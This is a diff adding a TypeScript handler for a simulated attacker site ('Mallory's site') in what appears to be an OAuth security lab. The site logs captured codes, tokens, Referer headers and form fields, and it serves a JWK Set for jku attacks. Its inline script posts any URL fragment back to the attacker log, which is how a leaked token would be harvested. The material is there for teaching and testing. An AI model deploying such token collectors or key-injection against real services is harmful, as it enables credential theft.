@@ -1,0 +1,110 @@
+import { createHash } from 'node:crypto';
+import type { JWK } from 'jose';
+import { OAuthError, invalidRequest } from '../oauth-server/errors';
+import { jsonResponse } from '../oauth-server/http';
+import { escapeHtml } from '../oauth-server/pages/html';
+import { ATTACKER_JWKS_KEY } from '../realms/attacker-jwks';
+import type { Realm } from '../realms/types';
+import { appendRecord, readLog } from './log';
+
+/**
+ * The attacker site of a lab realm: same-origin, under `/attacker/{realm}/…` (DESIGN.md). It records
+ * what it receives — codes and tokens in query strings, Referer headers, harvested form fields, URL
+ * fragments its page reads — and serves the key set Mallory publishes for `jku` attacks. It never
+ * sends anything anywhere: no server fetches a URL a user supplied.
+ *
+ * - `GET /attacker/{realm}/log` → `{ "records": [...] }`, newest last
+ * - `GET /attacker/{realm}/jwks` → Mallory's JWK Set; `PUT` with `{ "keys": [public JWKs] }` replaces it
+ * - `POST /attacker/{realm}/fragment` (JSON `{ "fragment": "…" }`) → records a fragment her page read
+ * - anything else, GET or POST → recorded, answered with Mallory's page
+ */
+const MAX_BODY = 16 * 1024;
+const MAX_FIELDS = 30;
+
+/** Her page hands any fragment it arrived with back to her site, as a leaked implicit token would be. */
+const FRAGMENT_SCRIPT =
+  "if(location.hash.length>1){fetch(location.pathname.split('/').slice(0,3).join('/')+'/fragment',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({fragment:location.hash.slice(1)})});}";
+const SCRIPT_HASH = `'sha256-${createHash('sha256').update(FRAGMENT_SCRIPT).digest('base64')}'`;
+
+export async function attackerSiteHandler(request: Request, realm: Realm, path: string): Promise<Response> {
+  if (realm.id === 'demo') throw new OAuthError('invalid_request', 'The attacker site exists only for lab realms.', 404);
+  const method = request.method.toUpperCase();
+  if (path === 'log') {
+    if (method !== 'GET' && method !== 'HEAD') throw new OAuthError('invalid_request', 'The log is read-only: use GET.', 405, { Allow: 'GET, HEAD' });
+    return jsonResponse({ records: await readLog(realm.store) });
+  }
+  if (path === 'jwks') return jwksRoute(request, realm, method);
+  if (path === 'fragment' && method === 'POST') {
+    const body = await readBody(request);
+    const parsed = safeJson(body.text);
+    const fragment = typeof parsed?.fragment === 'string' ? parsed.fragment.slice(0, 4096) : '';
+    const record = await appendRecord(realm.store, { at: realm.clock.nowSeconds(), kind: 'fragment', method, path, query: {}, fields: pairs(new URLSearchParams(fragment)) });
+    return jsonResponse({ recorded: record.seq }, 201);
+  }
+  if (method !== 'GET' && method !== 'POST') throw new OAuthError('invalid_request', 'Mallory’s site answers GET and POST.', 405, { Allow: 'GET, POST' });
+  const url = new URL(request.url);
+  const fields = method === 'POST' ? await formFields(request) : {};
+  const referer = request.headers.get('referer')?.slice(0, 2048) ?? undefined;
+  await appendRecord(realm.store, { at: realm.clock.nowSeconds(), kind: 'request', method, path: `/${path}`.slice(0, 200), query: pairs(url.searchParams), fields, referer });
+  return page(realm);
+}
+
+async function jwksRoute(request: Request, realm: Realm, method: string): Promise<Response> {
+  if (method === 'GET' || method === 'HEAD') return jsonResponse((await realm.store.get(ATTACKER_JWKS_KEY)) ?? { keys: [] });
+  if (method !== 'PUT') throw new OAuthError('invalid_request', 'Use GET to read Mallory’s key set, PUT to replace it.', 405, { Allow: 'GET, HEAD, PUT' });
+  const parsed = safeJson((await readBody(request)).text);
+  const keys = parsed?.keys;
+  if (!Array.isArray(keys) || keys.length > 5 || !keys.every((k) => typeof k === 'object' && k !== null && !Array.isArray(k))) {
+    throw invalidRequest('Send { "keys": [ up to 5 public JWKs ] }.');
+  }
+  // Public halves only: a JWK Set is published, so a private or symmetric key here would be a mistake.
+  if (keys.some((k: JWK) => 'd' in k || 'k' in k || 'p' in k)) throw invalidRequest('Publish public keys only (no d, k or p members).');
+  await realm.store.set(ATTACKER_JWKS_KEY, { keys }, 3600);
+  return new Response(null, { status: 204, headers: { 'Cache-Control': 'no-store' } });
+}
+
+function page(realm: Realm): Response {
+  const html = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Mallory’s site</title></head><body><main><h1>Mallory’s site</h1><p>Everything sent here is recorded in the attacker log of lab realm ${escapeHtml(realm.id)}.</p></main><script>${FRAGMENT_SCRIPT}</script></body></html>`;
+  return new Response(html, {
+    status: 200,
+    headers: {
+      'Content-Type': 'text/html;charset=UTF-8',
+      'Cache-Control': 'no-store',
+      'Content-Security-Policy': `default-src 'none'; script-src ${SCRIPT_HASH}; connect-src 'self'; base-uri 'none'; form-action 'none'`,
+      'Referrer-Policy': 'no-referrer',
+    },
+  });
+}
+
+async function readBody(request: Request): Promise<{ type: string; text: string }> {
+  const type = (request.headers.get('content-type') ?? '').split(';')[0].trim().toLowerCase();
+  if (Number(request.headers.get('content-length') ?? '0') > MAX_BODY) throw new OAuthError('invalid_request', 'The body is larger than 16 KB.', 413);
+  const text = await request.text().catch(() => '');
+  if (text.length > MAX_BODY) throw new OAuthError('invalid_request', 'The body is larger than 16 KB.', 413);
+  return { type, text };
+}
+
+async function formFields(request: Request): Promise<Record<string, string>> {
+  const body = await readBody(request);
+  return body.type === 'application/x-www-form-urlencoded' ? pairs(new URLSearchParams(body.text)) : body.text ? { body: body.text.slice(0, 1024) } : {};
+}
+
+function pairs(params: URLSearchParams): Record<string, string> {
+  const out: Record<string, string> = {};
+  let n = 0;
+  for (const [k, v] of params) {
+    if (n++ >= MAX_FIELDS) break;
+    if (k === '__proto__') continue;
+    out[k.slice(0, 64)] = v.slice(0, 4096);
+  }
+  return out;
+}
+
+function safeJson(text: string): Record<string, unknown> | undefined {
+  try {
+    const v: unknown = JSON.parse(text);
+    return typeof v === 'object' && v !== null && !Array.isArray(v) ? (v as Record<string, unknown>) : undefined;
+  } catch {
+    return undefined;
+  }
+}
